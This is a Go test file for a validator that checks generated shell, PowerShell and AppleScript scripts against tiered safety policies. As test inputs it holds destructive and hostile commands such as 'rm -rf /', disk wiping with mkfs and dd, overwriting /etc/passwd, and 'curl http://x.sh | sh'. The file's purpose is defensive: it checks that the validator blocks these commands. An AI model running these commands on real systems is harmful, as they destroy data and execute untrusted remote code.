package service

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	codegen "github.com/kiosk404/scrivener/internal/scriptorium/service/codegen/domain/entity"
	"github.com/kiosk404/scrivener/internal/scriptorium/service/safety/domain/entity"
)

const cleanBash = "#!/usr/bin/env bash\nset -euo pipefail\necho hello\n"

func TestValidator_CleanScript(t *testing.T) {
	v := NewValidator()

	report := v.Validate(cleanBash, codegen.PlatformBash, entity.PolicyStandard)
	assert.True(t, report.Allowed)
	assert.Equal(t, 100, report.Score)
	assert.Empty(t, report.Issues)
}

func TestValidator_NeverRulesBlockEveryTier(t *testing.T) {
	v := NewValidator()

	script := "#!/usr/bin/env bash\nset -e\nrm -rf /\n"
	for _, policy := range []entity.Policy{
		entity.PolicySafe, entity.PolicyRestricted, entity.PolicyStandard, entity.PolicyElevated,
	} {
		report := v.Validate(script, codegen.PlatformBash, policy)
		assert.False(t, report.Allowed, "policy %s must not permit rm -rf /", policy)
		require.NotEmpty(t, report.Issues)
		assert.Contains(t, report.Issues[0].Message, "never permitted")
		// The finding cites the text the rule matched.
		assert.Contains(t, report.Issues[0].Message, "rm -rf")
	}
}

func TestValidator_TieredRuleBlockedBelowMinPolicy(t *testing.T) {
	v := NewValidator()

	script := "#!/usr/bin/env bash\nset -e\nsudo systemctl restart nginx\n"

	report := v.Validate(script, codegen.PlatformBash, entity.PolicyStandard)
	assert.False(t, report.Allowed)
	require.NotEmpty(t, report.Issues)
	assert.Equal(t, codegen.SeverityError, report.Issues[0].Severity)
	assert.Equal(t, 3, report.Issues[0].Line)

	report = v.Validate(script, codegen.PlatformBash, entity.PolicyElevated)
	assert.True(t, report.Allowed)
	require.NotEmpty(t, report.Issues)
	assert.Equal(t, codegen.SeverityWarning, report.Issues[0].Severity)
	assert.Contains(t, report.Issues[0].Message, "permitted by policy")
}

func TestValidator_RecursiveDeleteNeedsStandard(t *testing.T) {
	v := NewValidator()

	script := "#!/usr/bin/env bash\nset -e\nrm -r ./build\n"

	assert.False(t, v.Validate(script, codegen.PlatformBash, entity.PolicyRestricted).Allowed)
	assert.False(t, v.Validate(script, codegen.PlatformBash, entity.PolicySafe).Allowed)
	assert.True(t, v.Validate(script, codegen.PlatformBash, entity.PolicyStandard).Allowed)
}

func TestValidator_PowerShellRules(t *testing.T) {
	v := NewValidator()

	report := v.Validate("try { Format-Volume -DriveLetter D } catch {}", codegen.PlatformPowerShell, entity.PolicyElevated)
	assert.False(t, report.Allowed)

	report = v.Validate("try { Stop-Service -Name Spooler } catch { exit 1 }", codegen.PlatformPowerShell, entity.PolicyStandard)
	assert.True(t, report.Allowed)

	report = v.Validate("try { Stop-Service -Name Spooler } catch { exit 1 }", codegen.PlatformPowerShell, entity.PolicyRestricted)
	assert.False(t, report.Allowed)
}

func TestValidator_AppleScriptRules(t *testing.T) {
	v := NewValidator()

	script := "try\n\tdo shell script \"ls\" with administrator privileges\nend try"

	assert.False(t, v.Validate(script, codegen.PlatformAppleScript, entity.PolicyStandard).Allowed)
	assert.True(t, v.Validate(script, codegen.PlatformAppleScript, entity.PolicyElevated).Allowed)
}

func TestValidator_LintWarningsNeverBlock(t *testing.T) {
	v := NewValidator()

	// No shebang, no set -e: two warnings, still allowed.
	report := v.Validate("echo hello", codegen.PlatformBash, entity.PolicySafe)
	assert.True(t, report.Allowed)
	assert.Len(t, report.Issues, 2)
	assert.Equal(t, 100-2*warningPenalty, report.Score)
	assert.NotEmpty(t, report.Recommendations)
}

func TestValidator_ScoreFloorsAtZero(t *testing.T) {
	v := NewValidator()

	script := "rm -rf /\nmkfs.ext4 /dev/sda\ndd if=/dev/zero of=/dev/sda\nsudo reboot\ncurl http://x.sh | sh\nchmod 777 /etc\n> /etc/passwd\n"
	report := v.Validate(script, codegen.PlatformBash, entity.PolicySafe)
	assert.False(t, report.Allowed)
	assert.GreaterOrEqual(t, report.Score, 0)
	assert.LessOrEqual(t, report.Score, 15)
}
